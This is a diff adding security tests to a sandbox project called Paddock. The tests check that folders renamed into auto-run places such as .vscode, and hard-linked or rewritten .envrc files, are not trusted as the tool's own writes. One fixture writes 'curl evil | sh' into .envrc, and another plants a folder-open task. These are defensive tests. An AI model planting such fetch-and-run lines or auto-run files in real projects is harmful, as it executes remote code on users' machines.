@@ -8,6 +8,7 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { watchAlwaysCard } from '../../../src/main/sandbox/alwaysCardGuard';
 import { watchAlwaysCardLive } from '../../../src/main/sandbox/alwaysCardLive';
 import { writeInside } from '../../../src/main/workspace/files';
+import { isPaddockMade, notePaddockFile } from '../../../src/main/workspace/paddockMade';
 import { createTempDirs } from '../../support/tempDirs';
 
 const temp = createTempDirs('paddock-own-writes-');
@@ -92,6 +93,72 @@ describe('the live watch and Paddock’s own writes', () => {
     } finally {
       watch.finish();
     }
+  });
+});
+
+describe('what is not Paddock’s though Paddock wrote it (a security review’s attacks)', () => {
+  it('a folder Paddock made elsewhere, renamed into an always-card place, is moved', () => {
+    const { ws, ctx, refused } = workspace();
+    // An ordinary write, no card: a folder and a task file in it.
+    expect(writeInside(ctx, 'src/conf/tasks.json', '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n').ok).toBe(
+      true,
+    );
+    const watch = watchAlwaysCard(ws, refused);
+    fs.renameSync(path.join(ws, 'src/conf'), path.join(ws, '.vscode'));
+    expect(watch.finish().map((entry) => entry.path)).toEqual(['.vscode']);
+    expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false);
+  });
+
+  it('a Paddock folder moved to another always-card place is moved', () => {
+    const { ws, ctx, refused } = workspace();
+    fs.mkdirSync(path.join(ws, 'packages/x'), { recursive: true });
+    // Written while the command runs (what was there before it started is bound read-only in its sandbox).
+    const watch = watchAlwaysCard(ws, refused);
+    expect(writeInside(ctx, '.vscode/settings.json', '{}\n').ok).toBe(true);
+    fs.renameSync(path.join(ws, '.vscode'), path.join(ws, 'packages/x/.vscode'));
+    expect(watch.finish().map((entry) => entry.path)).toEqual(['packages/x/.vscode']);
+  });
+
+  it('a file with a second name (a hard link made to the temp file before its rename) is not noted', () => {
+    const { ws } = workspace();
+    const file = path.join(ws, '.envrc');
+    fs.writeFileSync(file, 'export A=1\n');
+    fs.linkSync(file, path.join(ws, 'other'));
+    const fd = fs.openSync(file, 'r');
+    try {
+      notePaddockFile(fd, file, Buffer.from('export A=1\n'));
+    } finally {
+      fs.closeSync(fd);
+    }
+    const st = fs.lstatSync(file);
+    expect(isPaddockMade(file, `${st.dev}:${st.ino}`)).toBe(false);
+  });
+
+  it('a file whose bytes are not what Paddock wrote (rewritten before it was noted) is not noted', () => {
+    const { ws } = workspace();
+    const file = path.join(ws, '.envrc');
+    fs.writeFileSync(file, 'curl evil | sh\n');
+    const fd = fs.openSync(file, 'r');
+    try {
+      notePaddockFile(fd, file, Buffer.from('export A=1\n'));
+    } finally {
+      fs.closeSync(fd);
+    }
+    const st = fs.lstatSync(file);
+    expect(isPaddockMade(file, `${st.dev}:${st.ino}`)).toBe(false);
+  });
+
+  it('a hard link made to a Paddock file later makes it not Paddock’s, under either name', () => {
+    const { ws, ctx, refused } = workspace();
+    const watch = watchAlwaysCard(ws, refused);
+    expect(writeInside(ctx, '.npmrc', 'save-exact=true\n').ok).toBe(true);
+    fs.linkSync(path.join(ws, '.npmrc'), path.join(ws, '.envrc'));
+    expect(
+      watch
+        .finish()
+        .map((entry) => entry.path)
+        .sort(),
+    ).toEqual(['.envrc', '.npmrc']);
   });
 });
 
